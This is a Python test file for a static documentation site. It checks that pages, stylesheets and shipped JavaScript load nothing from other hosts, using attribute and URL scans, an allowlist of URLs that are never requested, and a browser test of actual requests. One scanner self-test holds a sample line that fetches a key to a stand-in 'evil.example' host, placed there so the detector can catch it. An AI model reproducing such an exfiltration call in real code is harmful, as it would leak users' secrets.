"""No other host: the built site loads every script, style, font, image, worker and fetch from
itself. Plain <a href> reading links to sources are fine; anything a page would load is not.

Two layers. Statically, every HTML attribute that makes the browser load something, every CSS
url() and @import, and every URL in the shipped JavaScript (Material's bundles, the vendored
Pyodide and noble files, our own) is checked; a URL in JavaScript code (not a comment) passes
only if it is listed below with the reason it is never requested. In the browser, what pages
actually request is recorded, worker included, while the checker runs.
"""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest

pytestmark = pytest.mark.browser

READY_TIMEOUT_MS = 60_000

# (file glob under the site, URL prefix) -> why the code holding it never requests it here.
NEVER_REQUESTED = {
    ("assets/javascripts/bundle.*.min.js", "https://api.github.com/"):
        "Material's repository facts; only with repo_url on GitHub, and mkdocs.yml sets none.",
    ("assets/javascripts/bundle.*.min.js", "https://${e}/api/v4/projects/"):
        "Material's repository facts for GitLab; only with a GitLab repo_url, and none is set.",
    ("assets/javascripts/bundle.*.min.js", "https://unpkg.com/mermaid@"):
        "Material loads Mermaid only for a page with a mermaid diagram; no page has one.",
    ("assets/javascripts/bundle.*.min.js", "https://unpkg.com/resize-observer-polyfill"):
        "Only when the browser lacks ResizeObserver, which every supported browser has.",
    ("assets/javascripts/bundle.*.min.js", "https://clipboardjs.com/"):
        "clipboard.js's licence banner text, kept in the minified code as a string.",
    ("assets/javascripts/workers/search.*.min.js", "http://lunrjs.com"):
        "lunr's licence banner text.",
    ("assets/javascripts/workers/search.*.min.js", "http://tartarus.org/~martin/PorterStemmer/"):
        "lunr's credit for the Porter stemmer, in a string.",
    ("assets/javascripts/workers/search.*.min.js", "https://bit.ly/"):
        "lunr's warning message text, never fetched.",
    ("assets/pyodide/pyodide.mjs", "https://cdn.jsdelivr.net/pyodide/"):
        "Pyodide's default package CDN: used by loadPackage, which the checker never calls (its "
        "wheel is unpacked from this site); connect-src 'self' would block it anyway.",
    ("assets/pyodide/pyodide.asm.mjs", "https://${t}"):
        "Pyodide's socket emulation for Node.js (connect()); browsers never take this path.",
}

# Attributes that make a browser load something. <a href> is reading, not loading.
LOADING_ATTRIBUTES = {
    "script": ("src",), "img": ("src", "srcset"), "source": ("src", "srcset"), "video": ("src", "poster"),
    "audio": ("src",), "iframe": ("src",), "frame": ("src",), "embed": ("src",), "object": ("data",),
    "input": ("src",), "track": ("src",), "form": ("action",), "button": ("formaction",),
    "base": ("href",), "use": ("href", "xlink:href"), "image": ("href", "xlink:href"),
}
LOADING_LINK_RELS = {"stylesheet", "icon", "shortcut", "apple-touch-icon", "manifest", "preload",
                     "modulepreload", "prefetch", "preconnect", "dns-prefetch", "prerender", "mask-icon"}
CSS_URL = re.compile(r"""url\(\s*['"]?([^'")]+)['"]?\s*\)|@import\s+['"]([^'"]+)['"]""")
ABSOLUTE_URL = re.compile(r"""(?:https?:)?//[^\s"'`)<>\\]+""")
JS_URL = re.compile(r"""https?://[^\s"'`)<>\\]+""")


def foreign(url: str, page_url: str, site_url: str) -> bool:
    """True for a URL that leaves the site (data: and same-site URLs do not)."""
    url = url.strip()
    if not url or url.startswith(("data:", "#", "blob:")):
        return False
    resolved = urljoin(page_url, url)
    return urlsplit(resolved).scheme in ("http", "https", "") and not resolved.startswith(site_url)


class LoadingAttributes(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []   # (tag, attribute, url)
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        names = LOADING_ATTRIBUTES.get(tag, ())
        if tag == "link" and LOADING_LINK_RELS & set((attributes.get("rel") or "").lower().split()):
            names = ("href", "imagesrcset")
        for name in names:
            value = attributes.get(name) or ""
            urls = [part.split()[0] for part in value.split(",") if part.strip()] if "srcset" in name else [value]
            self.found += [(tag, name, url) for url in urls if url]
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.found.append((tag, "content", (attributes.get("content") or "").partition("url=")[2]))
        self.styles += [attributes["style"]] if attributes.get("style") else []
        self._in_style = tag == "style"

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)

    def handle_endtag(self, tag):
        self._in_style = False


def test_no_html_attribute_loads_from_another_host(site):
    offenders = []
    pages = sorted(site.dir.rglob("*.html"))
    assert len(pages) > 30
    for path in pages:
        relative = path.relative_to(site.dir).as_posix()
        page_url = site.url + relative
        parser = LoadingAttributes()
        parser.feed(path.read_text("utf-8"))
        offenders += [f"{relative}: <{tag} {name}={url}>" for tag, name, url in parser.found
                      if foreign(url, page_url, site.url)]
        for style in parser.styles:
            offenders += [f"{relative}: style url({url})" for pair in CSS_URL.findall(style)
                          for url in pair if url and foreign(url, page_url, site.url)]
    assert offenders == [], "\n".join(offenders)


def test_no_stylesheet_loads_from_another_host(site):
    offenders = []
    sheets = sorted(site.dir.rglob("*.css"))
    assert any("stylesheets/main." in sheet.name or "main." in sheet.name for sheet in sheets)
    for sheet in sheets:
        relative = sheet.relative_to(site.dir).as_posix()
        for pair in CSS_URL.findall(sheet.read_text("utf-8")):
            offenders += [f"{relative}: {url}" for url in pair if url and foreign(url, site.url + relative, site.url)]
    assert offenders == [], "\n".join(offenders)


def _in_comment(text: str, at: int) -> bool:
    """Is position `at` inside a // line comment or a /* block comment */? (Good enough for
    the readable vendored files; the minified ones have their URLs listed explicitly.)"""
    line_start = text.rfind("\n", 0, at) + 1
    before = text[line_start:at]
    if re.search(r"(^|[\s;{}(,])//", before) or before.lstrip().startswith("*"):
        return True
    return text.rfind("/*", 0, at) > text.rfind("*/", 0, at)


def _whitelisted(relative: str, url: str) -> bool:
    from fnmatch import fnmatch
    return any(fnmatch(relative, pattern) and url.startswith(prefix)
               for (pattern, prefix) in NEVER_REQUESTED)


def test_javascript_holds_no_url_to_another_host_outside_comments_and_the_list(site):
    scripts = sorted([*site.dir.rglob("*.js"), *site.dir.rglob("*.mjs")])
    names = {path.relative_to(site.dir).as_posix() for path in scripts}
    for expected in ("assets/pyodide/pyodide.mjs", "assets/pyodide/pyodide.asm.mjs",
                     "assets/vendor/noble-ciphers/chacha.js", "assets/checker/worker.js"):
        assert expected in names, f"{expected} is not in the site: the scan would miss it"
    assert any(name.startswith("assets/javascripts/bundle.") for name in names)
    offenders, used = [], set()
    for path in scripts:
        relative = path.relative_to(site.dir).as_posix()
        text = path.read_text("utf-8", errors="replace")
        for match in JS_URL.finditer(text):
            url = match.group(0)
            if _whitelisted(relative, url):
                used |= {key for key in NEVER_REQUESTED if url.startswith(key[1])}
            elif not _in_comment(text, match.start()):
                offenders.append(f"{relative}: {url[:100]}")
    assert offenders == [], "URLs to other hosts in shipped JavaScript code:\n" + "\n".join(offenders)
    # Every entry of the list still matches something: no stale reason stays behind.
    assert set(NEVER_REQUESTED) == used, f"stale entries: {set(NEVER_REQUESTED) - used}"


def test_the_scanner_catches_a_foreign_load():
    parser = LoadingAttributes()
    parser.feed('<script src="https://cdn.example.com/x.js"></script><a href="https://github.com/x">'
                '<link rel="stylesheet" href="//fonts.example.com/a.css"><img srcset="a.png 1x, https://x.org/b.png 2x">')
    site_url = "http://127.0.0.1:1/"
    assert [url for _, _, url in parser.found if foreign(url, site_url, site_url)] == [
        "https://cdn.example.com/x.js", "//fonts.example.com/a.css", "https://x.org/b.png"]
    code = 'const a = 1; // see https://example.org/doc\nfetch("https://evil.example/k?" + key);'
    urls = [(m.group(0), _in_comment(code, m.start())) for m in JS_URL.finditer(code)]
    assert urls == [("https://example.org/doc", True), ('https://evil.example/k?', False)]


# --- what the browser actually requests -------------------------------------------------------

def test_the_checker_requests_nothing_from_another_host(open_page, check_key, site):
    watched = open_page("/checker/")
    page = watched.page
    key = base64.b64encode(json.dumps({"subscription": "standard", "signature": "c2lnbmF0dXJl" * 20}).encode()).decode()
    assert check_key(page, key)["status"] == "ok"
    page.locator("[data-simulator-run]").click()
    page.locator("[data-simulator] [data-simulator-outcome]").wait_for()
    page.locator("[data-keyfile-input]").set_input_files(
        files=[{"name": "glpicrypt.key", "mimeType": "application/octet-stream", "buffer": bytes(range(32))}])
    page.fill("[data-keyfile-value]", base64.b64encode(bytes(64)).decode())
    page.locator("[data-keyfile-decrypt]").click()
    page.wait_for_selector("[data-keyfile-decrypt-result] *")
    page.locator("[data-checker-input]").blur()
    page.keyboard.press("/")                  # Material's shortcut: the search worker and its index
    page.keyboard.type("glpicrypt")
    page.wait_for_selector(".md-search-result__item", timeout=10_000)
    page.wait_for_load_state("networkidle")
    assert any("/assets/pyodide/pyodide.asm.wasm" in url for url in watched.requests)  # the worker's fetches are seen
    assert [url for url in watched.requests if not url.startswith(site.url)] == []
